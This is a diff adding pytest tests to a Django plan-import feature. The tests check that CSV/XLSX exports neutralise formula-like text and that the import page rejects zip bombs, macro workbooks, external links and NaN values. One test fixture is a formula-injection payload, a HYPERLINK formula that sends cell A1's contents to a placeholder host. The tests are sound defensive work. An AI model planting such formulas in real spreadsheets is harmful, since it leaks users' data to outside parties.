@@ -375,3 +375,137 @@ def test_text_that_looks_like_a_formula_stays_text(full_plan, fmt):
     do_import(copy, export(full_plan), f"insatser.{fmt}")
     a1 = copy.activities.get(ref="A1")
     assert (a1.description, a1.partners) == ("=samma som 2025, se bilaga", "+46 Föreningen")
+
+
+# Formula injection (issue #16, finding 1) ---------------------------------------------------
+
+FORMULA_TITLES = {
+    "H1": '=HYPERLINK("http://example.invalid/?"&A1,"Klicka")',
+    "S1": "-5 % arbetslöshet",
+    "S1.1": "@SUMMA(A1)",
+    "S1.2": "'=1+1",  # already starts with the apostrophe: it must come back with it
+}
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_exports_write_formula_like_text_as_text_and_import_it_back(plan, fmt):
+    import csv
+
+    for ref, title in FORMULA_TITLES.items():
+        plan.activities.filter(ref=ref).update(title=title, partners="+46 Föreningen")
+    if fmt == "csv":
+        rows = list(csv.reader(io.StringIO(export_csv(plan).decode("utf-8-sig"))))
+        cells = {r[0]: r for r in rows[1:]}
+    else:
+        ws = load_workbook(io.BytesIO(export_xlsx(plan))).active
+        assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
+        cells = {r[0]: r for r in ws.iter_rows(min_row=2, values_only=True)}
+        assert cells["H1"][COLUMNS.index("framsteg")] == 20  # numbers stay numbers
+    title, partner = COLUMNS.index("titel"), COLUMNS.index("partner")
+    assert {ref: cells[ref][title] for ref in FORMULA_TITLES} == {
+        ref: "'" + text for ref, text in FORMULA_TITLES.items()
+    }
+    assert cells["H1"][partner] == "'+46 Föreningen"
+    copy = empty_plan_like(plan)
+    do_import(copy, export_csv(plan) if fmt == "csv" else export_xlsx(plan), f"i.{fmt}")
+    assert dict(copy.activities.values_list("ref", "title")) == FORMULA_TITLES
+    assert snapshot(copy) == snapshot(plan)
+
+
+# Numbers that are not numbers (issue #16, finding 8) ----------------------------------------
+
+
+@pytest.mark.parametrize("value", ["sNaN", "-sNaN", "NaN", "Infinity", "-Infinity", "1e999"])
+@pytest.mark.parametrize(
+    "column, message", [("framsteg", "ska vara ett heltal 0–100"), ("vikt", "vikten ska vara")]
+)
+def test_nan_and_infinity_in_numbers_are_row_messages_on_the_import_page(
+    plan, users, client_for, value, column, message
+):
+    from django.core.files.uploadedfile import SimpleUploadedFile
+    from django.urls import reverse
+
+    before = snapshot(plan)
+    raw = csv_with(plan, "H1", **{column: value})
+    response = client_for(users["coordinator"]).post(
+        reverse("plan:import", args=[plan.pk]), {"file": SimpleUploadedFile("i.csv", raw)}
+    )
+    page = response.content.decode()
+    assert response.status_code == 200
+    assert f"i.csv, rad 2, kolumn &#x27;{column}&#x27;: {message}" in page
+    assert snapshot(plan) == before
+
+
+# Upload checks before the import reads anything (issue #16, finding 2) ------------------------
+
+
+def _changed_xlsx(plan):
+    """The plan's Excel export with H1's title changed: importing it would store something."""
+    ws_book = load_workbook(io.BytesIO(export_xlsx(plan)))
+    ws = ws_book.active
+    for row in ws.iter_rows(min_row=2):
+        if row[0].value == "H1":
+            row[COLUMNS.index("titel")].value = "Ändrad titel"
+    out = io.BytesIO()
+    ws_book.save(out)
+    return out.getvalue()
+
+
+def _bad_upload(plan, kind):
+    from tests.core import spreadsheets
+
+    if kind == "csv-rows":
+        return "insatser.csv", csv_with(plan, "H1", titel="Ändrad titel"), "har fler än 3 rader"
+    if kind == "csv-size":
+        return "insatser.csv", csv_with(plan, "H1", titel="Ändrad titel"), "är för stor"
+    if kind == "xlsx-rows":
+        return "insatser.xlsx", _changed_xlsx(plan), "har fler än 3 rader"
+    if kind == "bomb":
+        raw = spreadsheets.bomb(_changed_xlsx(plan))
+        return "insatser.xlsx", raw, "packar upp till orimligt mycket data"
+    if kind == "member-bomb":
+        raw = spreadsheets.member_bomb(_changed_xlsx(plan))
+        return "insatser.xlsx", raw, "packar upp till orimligt mycket data (xl/sharedStrings2"
+    if kind == "xlsm":
+        raw = spreadsheets.with_members(_changed_xlsx(plan), macro_type=True)
+        return "insatser.xlsx", raw, "är ingen Excel-arbetsbok"
+    members, message = spreadsheets.BAD_MEMBERS[kind]
+    return "insatser.xlsx", spreadsheets.with_members(_changed_xlsx(plan), members), message
+
+
+@pytest.mark.parametrize(
+    "kind",
+    ["csv-rows", "csv-size", "xlsx-rows", "bomb", "member-bomb", "xlsm", "macro",
+     "excel4-macro", "external-link", "connection", "activex", "embedding", "stranger"],
+)  # fmt: skip
+def test_the_import_page_refuses_a_bad_file_before_reading_it(
+    plan, users, client_for, settings, kind
+):
+    from django.core.files.uploadedfile import SimpleUploadedFile
+    from django.urls import reverse
+
+    name, raw, message = _bad_upload(plan, kind)
+    if kind.endswith("-rows"):
+        settings.LAGESBILD_MAX_UPLOAD_ROWS = 3  # the export has 5 lines
+    if kind == "csv-size":
+        settings.LAGESBILD_MAX_UPLOAD_BYTES = 200
+    before = snapshot(plan)
+    response = client_for(users["coordinator"]).post(
+        reverse("plan:import", args=[plan.pk]), {"file": SimpleUploadedFile(name, raw)}
+    )
+    page = response.content.decode().replace("&#x27;", "'")
+    assert response.status_code == 200
+    assert f"{name} " in page and message in page
+    assert snapshot(plan) == before
+
+
+def test_the_import_page_still_reads_the_plans_own_excel_export(plan, users, client_for):
+    from django.core.files.uploadedfile import SimpleUploadedFile
+    from django.urls import reverse
+
+    response = client_for(users["coordinator"]).post(
+        reverse("plan:import", args=[plan.pk]),
+        {"file": SimpleUploadedFile("insatser.xlsx", _changed_xlsx(plan))},
+    )
+    assert response.status_code == 302
+    assert plan.activities.get(ref="H1").title == "Ändrad titel"
